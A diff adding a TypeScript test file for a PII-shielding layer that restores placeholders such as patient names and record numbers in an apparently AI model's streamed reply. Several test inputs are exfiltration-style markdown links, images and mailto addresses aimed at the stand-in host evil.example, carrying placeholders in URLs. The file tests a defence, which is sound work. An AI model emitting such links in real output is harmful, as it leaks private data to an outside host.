@@ -1,0 +1,98 @@
+import { shieldText } from '@notewright/engine';
+import { describe, expect, test } from 'vitest';
+import type { Model } from '../models/model.ts';
+import { askModel } from './ask-model.ts';
+
+const input =
+  'Patient: Jane Sample, MRN 00482913. Portal https://portal.example/in?x=1 and jane.sample@mail.example. See https://unshielded.example/a.';
+const shield = shieldText(input);
+/** As the shield has it, with one address that it left as it is. */
+const prompt = shield.text.replace(/See \S+$/, 'See https://kept.example/a.');
+
+/** The reply to a model that says this, in pieces of so many characters. */
+async function reply(words: string, size: number): Promise<string> {
+  const model: Model = {
+    name: 'scripted',
+    stream: async function* () {
+      for (let at = 0; at < words.length; at += size) yield words.slice(at, at + size);
+    },
+  };
+  const shielded = { prompt, placeholders: shield.placeholders, restoreStream: shield.restoreStream };
+  let text = '';
+  const question = { system: '', shielded, knownCodes: [], signal: new AbortController().signal };
+  for await (const piece of askModel(model, question)) text += piece;
+  return text;
+}
+
+async function expectReply(words: string, expected: string): Promise<void> {
+  for (const size of [1, 2, 3, 5, 7, 11, words.length]) expect(await reply(words, size)).toBe(expected);
+}
+
+test('the shield has replaced what these tests put back', () => {
+  expect(shield.text).toContain('Patient: [NAME-1], MRN [MRN-1]. Portal [URL-1] and [EMAIL-1]');
+});
+
+describe('a link that the prompt does not hold is text, and holds no original', () => {
+  test.each([
+    ['[more](https://evil.example/?d=[NAME-1])', '[more]\\(https\\://evil.example/?d=[NAME-1])'],
+    ['![x](https://evil.example/[MRN-1].png)', '![x]\\(https\\://evil.example/[MRN-1].png)'],
+    ['see https://evil.example/[MRN-1]?n=[NAME-1].', 'see https\\://evil.example/[MRN-1]?n=[NAME-1].'],
+    ['see www.evil.example/[MRN-1]', 'see www\\.evil.example/[MRN-1]'],
+    ['at http://[MRN-1].evil.example', 'at http\\://[MRN-1].evil.example'],
+    ['<https://evil.example/[MRN-1]>', '<https\\://evil.example/[MRN-1]>'],
+    ['<https:/evil.example/[MRN-1]>', '<https\\:/evil.example/[MRN-1]>'],
+    ['mail [MRN-1]@evil.example', 'mail [MRN-1]\\@evil.example'],
+    ['mailto:a@evil.example?body=[NAME-1]', 'mailto\\:a\\@evil.example?body=[NAME-1]'],
+    ['[a]: https://evil.example/[MRN-1]', '[a]\\: https\\://evil.example/[MRN-1]'],
+    ['[a]: <https:/evil.example/[MRN-1]>', '[a]\\: <https\\:/evil.example/[MRN-1]>'],
+    ['[NAME-9]: //evil.example/', '[NAME-9]\\: //evil.example/'],
+    ['[a](<https://evil.example/ [NAME-1]>)', '[a]\\(<https\\://evil.example/ [NAME-1]>)'],
+    ['[a]( https&#58;//evil.example/[NAME-1] )', '[a]\\( https&#58;//evil.example/[NAME-1] )'],
+    ['[a](//evil.example/ "[NAME-1]") [NAME-1]', '[a]\\(//evil.example/ "[NAME-1]") Jane Sample'],
+    // An address of the input with something behind it is another address.
+    ['[URL-1]&d=[NAME-1]', '[URL-1]&d=[NAME-1]'],
+    ['https://kept.example/a/[NAME-1]', 'https\\://kept.example/a/[NAME-1]'],
+    ['[MRN-1][EMAIL-1] [MRN-1].[EMAIL-1]', '00482913[EMAIL-1] 00482913.[EMAIL-1]'],
+    ['https://kept.example/(a)[NAME-1]', 'https\\://kept.example/(a)[NAME-1]'],
+    ['`https://evil.example/` https://evil.example/', '`https\\://evil.example/` https\\://evil.example/'],
+  ])('%s', expectReply);
+});
+
+describe('code and tags hold no original', () => {
+  test.each([
+    ['run `curl [NAME-1]` for [NAME-1]', 'run `curl [NAME-1]` for Jane Sample'],
+    ['``a ` [NAME-1]`` [NAME-1]', '``a ` [NAME-1]`` Jane Sample'],
+    ['```\n[NAME-1]\n\n[MRN-1]\n```\n[NAME-1]', '```\n[NAME-1]\n\n[MRN-1]\n```\nJane Sample'],
+    ['~~~\n[NAME-1]\n~~~\n[NAME-1]', '~~~\n[NAME-1]\n~~~\nJane Sample'],
+    ['<b title="[NAME-1]">[NAME-1]</b>', '<b title="[NAME-1]">Jane Sample</b>'],
+    [
+      '- ```\n  [NAME-1]\n  ``` x\n  [NAME-1]\n  ```\n- [NAME-1]',
+      '- ```\n  [NAME-1]\n  ``` x\n  [NAME-1]\n  ```\n- Jane Sample',
+    ],
+    ['<[NAME-1]> -     [NAME-1]\n-     [NAME-1]', '<[NAME-1]> -     Jane Sample\n- Jane Sample'],
+    ['<img\nalt=[NAME-1]\nsrc=x>', '<img\nalt=[NAME-1]\nsrc=x>'],
+    ['## Plan\n\n    [NAME-1]\n\t[MRN-1]', '## Plan\n\n   Jane Sample\n   00482913'],
+    ['a ` alone\n\n[NAME-1]', 'a ` alone\n\nJane Sample'],
+  ])('%s', expectReply);
+});
+
+describe('all else is put back, and links of the input lead where they led', () => {
+  test.each([
+    ['- [NAME-1]: cough, BP < 120/80, HR >100', '- Jane Sample: cough, BP < 120/80, HR >100'],
+    ['[NAME-1](daughter) and **[NAME-1]**.', 'Jane Sample(daughter) and **Jane Sample**.'],
+    ['Portal [URL-1], mail [EMAIL-1].', 'Portal https://portal.example/in?x=1, mail jane.sample@mail.example.'],
+    [
+      '[portal]([URL-1]) [x](https://kept.example/a)',
+      '[portal](https://portal.example/in?x=1) [x](https://kept.example/a)',
+    ],
+    ['See https://kept.example/a.', 'See https://kept.example/a.'],
+    ['| a | [NAME-1]<br>[MRN-1] |\n- [ ] \\`[NAME-1]\\`', '| a | Jane Sample<br>00482913 |\n- [ ] \\`Jane Sample\\`'],
+    ['- a\n    - [NAME-1]', '- a\n    - Jane Sample'],
+    ['seen @ 5 pm, ratio 1:2, FEV1/FVC', 'seen @ 5 pm, ratio 1:2, FEV1/FVC'],
+  ])('%s', expectReply);
+});
+
+test('a word without end is read once', async () => {
+  for (const word of ['a'.repeat(50_000), ')'.repeat(50_000) + 'a', '[a]('.repeat(10_000), '<a:'.repeat(10_000)])
+    expect((await reply(word, 1)).replaceAll('\\', '')).toBe(word);
+});
